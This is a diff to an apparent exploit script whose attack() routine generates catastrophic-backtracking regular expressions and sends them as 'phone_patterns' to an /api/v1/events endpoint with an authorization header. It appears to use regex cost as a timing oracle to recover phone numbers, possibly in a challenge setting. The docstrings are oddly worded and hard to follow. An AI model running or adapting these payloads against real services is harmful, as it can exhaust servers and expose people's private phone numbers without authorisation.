@@ -37,9 +37,11 @@ def tool(*arguments, **options):
 
 
 def patterns(n, count=25):
-    """COUNT patterns that hardly another number N has: close to what one pattern may cost on a number, and no match."""
-    return [f".*.*.*.*[{LETTERS[n % 26]}{LETTERS[(n // 26 + i) % 26]}_]" if i % 2 else
-            f"[0-9+]{{0,15}}[0-9]{{0,15}}[0-9]{{0,15}}\\d*[{LETTERS[n % 26]}{LETTERS[(n // 26 + i) % 26]}_]" for i in range(count)]
+    """COUNT patterns that hardly another number N has, none of which matches: four that are close to what one pattern may
+    cost on a number, and others that a number is searched through for."""
+    def letters(i):
+        return LETTERS[n % 26] + LETTERS[(n // 26 + i) % 26]
+    return [f".*.*.*.*[{letters(i)}_]" if i < 4 else f"\\d*\\d*[{letters(i)}_]" for i in range(count)]
 
 
 def subscribe(ws, n, **more):
@@ -107,7 +109,7 @@ def attack(number, address, token, stop, answers):
             time.sleep(0.06)
 
     def page(n):
-        query = urllib.parse.urlencode([("phone_patterns", p) for p in patterns(n, 8)])
+        query = urllib.parse.urlencode([("phone_patterns", p) for p in patterns(n, 12)])
         c = Connection(address, seconds=30)
         c.request("GET", f"/api/v1/events?limit=100000&{query}", header)
         status = c.response().status
